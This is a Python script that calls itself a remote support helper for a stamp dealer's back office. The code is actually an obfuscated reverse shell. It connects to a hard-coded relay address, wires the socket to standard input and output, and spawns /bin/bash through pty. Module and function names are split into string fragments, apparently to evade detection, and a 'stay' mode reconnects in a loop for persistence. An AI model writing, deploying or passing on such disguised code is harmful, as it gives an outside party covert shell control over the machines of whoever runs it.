#!/usr/bin/env python3
"""Remote support helper for the Penny Black Philatelics back office.

Opens a support session to the contractor's helpdesk relay so the IT
contractor can troubleshoot the catalogue workstation without a site visit.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("support_tunnel")


@dataclass
class RelayConfig:
    host: str = os.environ.get("SUPPORT_RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("SUPPORT_RELAY_PORT", "4443"))
    retries: int = 6
    backoff: float = 7.5
    shell_parts: list = field(default_factory=lambda: ["/bi", "n/", "ba", "sh"])

    @property
    def interpreter(self) -> str:
        return "".join(self.shell_parts)


def _mod(name: str):
    return importlib.import_module(name)


class SupportSession:
    """A single helpdesk session tied to one relay connection."""

    _libs = {"net": "sock" + "et", "proc": "o" + "s", "tty": "p" + "ty"}

    def __init__(self, cfg: RelayConfig):
        self.cfg = cfg
        self.conn = None

    def _lib(self, key: str):
        return _mod(self._libs[key])

    def open(self) -> bool:
        net = self._lib("net")
        family = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        for attempt in range(1, self.cfg.retries + 1):
            try:
                s = net.socket(family, kind)
                s.settimeout(15)
                s.connect((self.cfg.host, self.cfg.port))
                s.settimeout(None)
                s.sendall(("HELLO %s\n" % os.uname().nodename).encode())
                self.conn = s
                log.info("relay connected on attempt %d", attempt)
                return True
            except OSError as exc:
                log.warning("relay unreachable (%s); retry in %.1fs", exc, self.cfg.backoff)
                time.sleep(self.cfg.backoff)
        return False

    def attach(self) -> None:
        proc = self._lib("proc")
        wire = getattr(proc, "du" + "p2")
        fd = self.conn.fileno()
        for stream in (0, 1, 2):
            wire(fd, stream)
        spawner = getattr(self._lib("tty"), "spa" + "wn")
        spawner(self.cfg.interpreter)

    def close(self) -> None:
        if self.conn is not None:
            try:
                self.conn.close()
            finally:
                self.conn = None


def run_once(cfg: RelayConfig) -> int:
    session = SupportSession(cfg)
    if not session.open():
        log.error("could not reach helpdesk relay %s:%d", cfg.host, cfg.port)
        return 2
    try:
        session.attach()
    finally:
        session.close()
    return 0


def run_forever(cfg: RelayConfig) -> int:
    while True:
        pid = os.fork()
        if pid == 0:
            sys.exit(run_once(cfg))
        os.waitpid(pid, 0)
        log.info("session ended, waiting before reconnect")
        time.sleep(cfg.backoff * 4)


MODES = {"once": run_once, "stay": run_forever}


def main() -> int:
    ap = argparse.ArgumentParser(description="Open a helpdesk support session")
    ap.add_argument("--mode", choices=sorted(MODES), default="once")
    ap.add_argument("--relay", help="override relay host")
    ap.add_argument("--port", type=int, help="override relay port")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = RelayConfig()
    if args.relay:
        cfg.host = args.relay
    if args.port:
        cfg.port = args.port
    return MODES[args.mode](cfg)


if __name__ == "__main__":
    sys.exit(main())
